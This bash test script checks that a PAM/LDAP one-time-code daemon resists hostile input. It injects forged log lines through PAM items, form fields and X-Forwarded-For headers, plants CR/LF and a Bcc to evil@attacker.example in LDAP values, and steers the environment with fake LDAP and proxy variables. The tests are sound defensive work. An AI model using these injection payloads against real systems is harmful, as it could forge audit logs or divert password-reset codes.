#!/bin/bash
# Hostile input that the other tests do not cover (see tests/hostile/README.md):
#  - log injection through every user string the daemon logs besides the
#    login name (tests/login_inputs.sh): the remote host and service name
#    (PAM items, set through pam_wrapper's pam_set_items.so), the e-mail,
#    realm and user fields of the reset form, X-Forwarded-For (also folded
#    over two lines);
#  - a malicious LDAP entry value: CR/LF and a Bcc in cn and in mail;
#  - environment steering: LDAPCONF, LDAPRC, LDAPURI, LDAPBINDDN and proxy
#    variables in the PAM caller's environment change nothing.
set -u
. "$top_srcdir/tests/testbed/testbed.sh"
. "$top_srcdir/tests/pam_env.sh"
command -v curl >/dev/null || skip_all "curl is not installed"
SET_ITEMS=/usr/lib/x86_64-linux-gnu/pam_wrapper/pam_set_items.so

tap_plan 15
tb_init
tb_start_slapd || bail_out "slapd did not start"
tb_start_smtp || bail_out "SMTP sink did not start"
PORT=$(tb_free_port)
U="http://127.0.0.1:$PORT"
tb_write_config "$TB_DIR/mailotp.conf" reset_listen "127.0.0.1:$PORT" reset_public_url "$U" \
	reset_trusted_proxies 127.0.0.1
tb_start_daemon "$TB_DIR/mailotp.conf" || bail_out "mailotpd did not start"
for _ in $(seq 100); do curl -s -o /dev/null "$U/healthz" && break; sleep 0.05; done
pam_std_services
FORGED='Accepted password for root from 10.0.0.1'
# forged LOG: lines of LOG that begin (after any prefix a syslog would add)
# with the forged text: none may
forged() { grep -ciE '^(<[0-9]+>)?([^ ]+ +){0,3}accepted password for root' "$TB_DAEMON_LOG" || true; }

# --- PAM items
if [[ -e "$SET_ITEMS" ]]; then
	pam_service items "auth required $SET_ITEMS" "auth required $PAM_MODULE socket=$TB_PAM_SOCKET"
	PAM_RHOST=$'203.0.113.9\n'"$FORGED" pam_run items alice auth 'Alice-Passw0rd!' @CODE:alice@example.org
	is "$PAM_RESULT" PAM_SUCCESS "a login with a newline in PAM_RHOST still works"
	like "$(cat "$TB_DAEMON_LOG")" 'rhost="203\.0\.113\.9\\x0aAccepted password' "the remote host is logged escaped"
	PAM_SERVICE=$'sshd\n'"$FORGED" PAM_RHOST='x" result=ok: forged' pam_run items nosuchuser auth 'Some-Passw0rd!'
	is "$PAM_RESULT" PAM_AUTH_ERR "an unknown account with hostile service and rhost is refused"
	like "$(cat "$TB_DAEMON_LOG")" 'service="sshd\\x0a[Aa]ccepted password' "the service name is logged escaped"
	like "$(cat "$TB_DAEMON_LOG")" 'rhost="x\\x22 result=ok: forged"' "a quote in the remote host cannot end the field"
else
	skip "pam_wrapper's pam_set_items.so not found" 5
fi

# --- the reset form: e-mail field (email mode), X-Forwarded-For
J="$TB_DIR/jar" B="$TB_DIR/b"
post_request() { # XFF FIELD=VALUE...
	local xff=$1 csrf
	shift
	rm -f "$J"
	curl -sS -c "$J" -o "$B" -H "X-Forwarded-For: $xff" "$U/" >/dev/null 2>&1
	csrf=$(sed -n 's/.*name="csrf" value="\([^"]*\)".*/\1/p' "$B")
	local -a args=()
	for f in "$@"; do args+=(--data-urlencode "$f"); done
	curl -sS -b "$J" -o "$B" -w '%{http_code}' -H "X-Forwarded-For: $xff" \
		--data-urlencode "csrf=$csrf" "${args[@]}" "$U/request" 2>/dev/null
}
evil_mail=$'nobody@example.org\n'"$FORGED"
code=$(post_request 198.51.100.20 "email=$evil_mail" "email_confirm=$evil_mail")
like "$code" '^(200|400)$' "a reset request with a newline in the e-mail is answered ($code)"
code=$(post_request "198.51.100.21, \"$FORGED\"" email=nobody@example.org email_confirm=nobody@example.org)
is "$code" 200 "a reset request with a hostile X-Forwarded-For is answered"
# a header folded over two lines (obs-fold) by a raw client
"$TB_PYTHON" - "$PORT" "$FORGED" <<'PY' >/dev/null 2>&1
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
s.sendall(("GET / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 198.51.100.22\r\n %s\r\n"
           "Connection: close\r\n\r\n" % sys.argv[2]).encode())
s.recv(65536)
PY
sleep 1 # the background lookup logs its decision
is "$(forged)" 0 "no log line begins with the forged text"
unlike "$(grep 'client=' "$TB_DAEMON_LOG")" 'client="?[^" ]*Accepted' "X-Forwarded-For reaches the log only as a parsed address"

# --- realm,user,email mode: the user and realm fields
tb_stop_daemon
tb_write_config "$TB_DIR/realm.conf" reset_listen "127.0.0.1:$PORT" reset_public_url "$U" \
	reset_trusted_proxies 127.0.0.1 reset_request_fields realm,user,email reset_realm_attr departmentNumber
tb_start_daemon "$TB_DIR/realm.conf" || bail_out "mailotpd did not start"
for _ in $(seq 100); do curl -s -o /dev/null "$U/healthz" && break; sleep 0.05; done
code=$(post_request 198.51.100.23 "realm=9N9Z"$'\n'"$FORGED" "user=alice"$'\n'"$FORGED" email=alice@example.org)
like "$code" '^(200|400)$' "realm,user,email: newlines in realm and user are answered ($code)"
sleep 1
is "$(forged)" 0 "... and forge no log line"

# --- a malicious directory value: CR/LF and a header in cn and in mail
tb_ldap_modify >/dev/null <<EOL
dn: $(tb_user_dn carol)
changetype: modify
replace: cn
cn:: $(printf 'Carol\r\nBcc: evil@attacker.example\r\nSubject: pwned' | base64 -w0)
EOL
before_evil=$(tb_mail_count evil@attacker.example)
pam_run mailotp carol auth 'Carol-Passw0rd!' @CODE:carol@example.org
is "$PAM_RESULT" PAM_SUCCESS "carol (CR/LF and a Bcc in her cn) logs in"
tb_ldap_modify >/dev/null <<EOL
dn: $(tb_user_dn bob)
changetype: modify
replace: mail
mail:: $(printf 'bob@example.org\r\nBcc: evil@attacker.example' | base64 -w0)
EOL
pam_run mailotp bob auth 'Bob-Passw0rd!' @CODE:bob@example.org
unlike "$PAM_RESULT" '^PAM_SUCCESS$' "bob, whose mail value carries CR/LF and a Bcc, gets no code ($PAM_RESULT)"
is "$(tb_mail_count evil@attacker.example)" "$before_evil" "nothing reached the address smuggled into the directory values"

# --- environment steering: the caller's environment changes nothing
printf 'URI ldap://127.0.0.1:9/\nBASE dc=evil\nBINDDN cn=evil\n' >"$TB_DIR/evil.conf"
steer() {
	LDAPCONF="$TB_DIR/evil.conf" LDAPRC="$TB_DIR/evil.conf" LDAPURI=ldap://127.0.0.1:9/ \
		LDAPBINDDN=cn=evil http_proxy=http://127.0.0.1:9 https_proxy=http://127.0.0.1:9 \
		HTTPS_PROXY=http://127.0.0.1:9 ALL_PROXY=socks5://127.0.0.1:9 all_proxy=socks5://127.0.0.1:9 \
		no_proxy='' NO_PROXY='' "$@"
}
out=''
steer pam_run mailotp alice auth 'Alice-Passw0rd!' @CODE:alice@example.org
out+="$PAM_RESULT "
steer pam_run mailotp alice auth 'Wrong-Passw0rd!'
out+="$PAM_RESULT "
steer pam_run mailotp nosuchuser auth 'Alice-Passw0rd!'
out+="$PAM_RESULT"
is "$out" "PAM_SUCCESS PAM_AUTH_ERR PAM_AUTH_ERR" "LDAPCONF/LDAPRC/LDAPURI and proxy variables in the caller's environment: same results as without"
tap_done
